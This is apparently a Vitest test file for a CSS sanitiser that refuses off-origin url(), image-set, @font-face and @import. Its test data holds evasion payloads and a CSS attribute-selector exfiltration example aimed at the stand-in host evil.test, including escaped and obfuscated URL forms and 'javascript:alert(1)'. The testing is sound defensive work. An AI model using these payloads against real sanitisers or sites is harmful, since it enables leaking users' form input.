import { describe, expect, it } from "vitest";
import { cssUrlProblems, foreignCssUrl } from "./css-urls";

describe("foreignCssUrl", () => {
  it.each([
    "https://evil.test/x.png",
    "http://evil.test/x.png",
    "//evil.test/x.png",
    " //evil.test/x.png",
    "/\\evil.test/x.png",
    "\\\\evil.test/x.png",
    "/\t/evil.test/x.png",
    "HTTPS://evil.test",
    "ftp://evil.test/x",
    "javascript:alert(1)",
    "data:text/css,body{}",
    "data:image/svg+xml,<svg/>",
  ])("refuses %j", (url) => expect(foreignCssUrl(url)).toBe(true));

  it.each(["/images/banner.png", "/cdn/shop/files/a.png?v=1", "images/a.png", "./a.png", "../a.png", "?v=2", "#filter", "data:image/png;base64,AAAA", "DATA:image/webp,AAAA", ""])(
    "allows %j",
    (url) => expect(foreignCssUrl(url)).toBe(false),
  );
});

describe("cssUrlProblems", () => {
  it("refuses @import whatever it imports, however it is written", () => {
    for (const css of ['@import "/site.css";', "@import url(/site.css);", "@IMPORT url(https://evil.test/a.css);", "@\\69mport url(/a.css);", "@im\\port '/a.css';", "/* x */@import'/a.css';"])
      expect(cssUrlProblems(css), css).toContain("@import");
  });

  it("refuses url() and image strings that load from another origin, escapes and comments read as a browser does", () => {
    expect(cssUrlProblems(".a { background: url(https://evil.test/x.png) }")).toEqual(["url(https://evil.test/x.png)"]);
    expect(cssUrlProblems('.a { background: url( "//evil.test/x" ) }')).toEqual(["url(//evil.test/x)"]);
    expect(cssUrlProblems(".a { background: u\\72l(//evil.test/x) }")).toEqual(["url(//evil.test/x)"]);
    expect(cssUrlProblems(".a { background: URL(\\2f\\2f evil.test/x) }")).toEqual(["url(//evil.test/x)"]);
    expect(cssUrlProblems('.a { background: image-set("https://evil.test/a.png" 1x, "/b.png" 2x) }')).toEqual(["url(https://evil.test/a.png)"]);
    expect(cssUrlProblems('.a { background: -webkit-image-set(url("/a.png") 1x, "//evil.test/b.png" 2x) }')).toEqual(["url(//evil.test/b.png)"]);
    expect(cssUrlProblems('@font-face { font-family: x; src: url("https://evil.test/f.woff2") format("woff2") }')).toEqual(["url(https://evil.test/f.woff2)"]);
    expect(cssUrlProblems('input[value^="a"] { background: url(https://evil.test/?a) } input[value^="b"] { background: url(https://evil.test/?b) }')).toHaveLength(2);
  });

  it("lets through the site's own paths, image data: URLs and strings that are not URLs", () => {
    for (const css of [
      ".hero { background: url(/cdn/shop/files/hero.jpg) center / cover }",
      '.hero { background-image: url("images/a.png"), url(data:image/png;base64,AAAA) }',
      '.a::before { content: "https://not-loaded.test"; font-family: "Helvetica Neue", sans-serif }',
      ".a { filter: url(#blur); color: rgb(0 0 0 / 50%) }",
      "/* @import url(https://evil.test) in a comment */ .a { color: red }",
      '.a::after { content: "@import" }',
      "",
    ])
      expect(cssUrlProblems(css), css).toEqual([]);
  });
});
